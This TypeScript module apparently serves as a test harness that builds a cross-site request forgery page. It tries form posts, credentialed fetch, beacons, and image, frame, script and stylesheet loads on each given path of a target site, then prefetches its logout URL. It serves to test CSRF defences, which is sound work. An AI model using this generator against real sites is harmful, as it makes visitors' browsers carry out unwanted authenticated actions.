/** What a page somewhere else can make a visitor's browser send to another site, without being asked. */
const WAYS = {
  /** Into a frame of its own, so that many can be tried from one page. */
  form: (type: string, isSandboxed: boolean) => `(path) => new Promise((done) => {
    const frame = document.createElement('iframe')
    frame.name = 'frame' + frames.length
    ${isSandboxed ? "frame.sandbox = 'allow-scripts allow-forms'" : ''}
    const fields = Object.entries(FORM).map(([name, value]) => '<input name="' + name + '" value="' + value + '">').join('')
    const html = '<form method="post" enctype="${type}" action="' + SITE + path + '">' + fields + '</form>'
    let loads = 0
    ${isSandboxed ? "frame.srcdoc = html + '<script>onload = () => document.forms[0].submit()</' + 'script>'" : ''}
    frame.onload = () => {
      if (++loads > 1) return done()
      ${isSandboxed ? '' : 'frame.contentDocument.body.innerHTML = html; frame.contentDocument.forms[0].submit()'}
    }
    document.body.append(frame)
  })`,
  fetch: (init: string) => `(path) => fetch(SITE + path, { method: 'POST', credentials: 'include', ...${init} }).catch(() => {})`,
  beacon: `async (path) => navigator.sendBeacon(SITE + path, new URLSearchParams(FORM))`,
  element: (name: string, property: string) => `(path) => new Promise((done) => {
    const element = document.createElement('${name}')
    element.onload = element.onerror = done
    ${name === 'link' ? "element.rel = 'stylesheet'" : ''}
    element.${property} = SITE + path + '?' + new URLSearchParams(FORM)
    document.body.append(element)
  })`,
}

const SENT = 'mode: "no-cors", body'
const POSTS: Record<string, string> = {
  'a form': WAYS.form('application/x-www-form-urlencoded', false),
  'a form with files': WAYS.form('multipart/form-data', false),
  'a form as text': WAYS.form('text/plain', false),
  'a form without an origin': WAYS.form('application/x-www-form-urlencoded', true),
  'fetch of a form': WAYS.fetch(`{ ${SENT}: new URLSearchParams(FORM) }`),
  'fetch of JSON as text': WAYS.fetch(`{ ${SENT}: JSON.stringify(FORM) }`),
  'fetch of JSON with a question before': WAYS.fetch(
    `{ body: JSON.stringify(FORM), headers: { 'Content-Type': 'application/json', 'X-HTTP-Method-Override': 'POST' } }`,
  ),
  'a beacon': WAYS.beacon,
}
const READS: Record<string, string> = {
  'a picture': WAYS.element('img', 'src'),
  'a frame': WAYS.element('iframe', 'src'),
  'a script': WAYS.element('script', 'src'),
  'a stylesheet': WAYS.element('link', 'href'),
}

type Attack = { site: string; paths: readonly string[]; form: Record<string, string> }

/** A page that tries each way on each path, and then calls itself done. Gives its HTML, and how many tries there are. */
export function hostilePage({ site, paths, form }: Attack): { html: string; posts: number; reads: number } {
  const tries = { ...POSTS, ...READS }
  const html = `<!doctype html><title>trying</title><body><script type="module">
    const [SITE, FORM, PATHS] = ${JSON.stringify([site, form, paths])}
    const tries = [${Object.values(tries).join(',\n')}]
    for (const path of PATHS) await Promise.all(tries.map((attempt) => attempt(path)))
    const ahead = Object.assign(document.createElement('link'), { rel: 'prefetch', href: SITE + '/logout' })
    document.head.append(ahead)
    document.title = 'done'
  </script>`
  return { html, posts: Object.keys(POSTS).length * paths.length, reads: Object.keys(READS).length * paths.length }
}
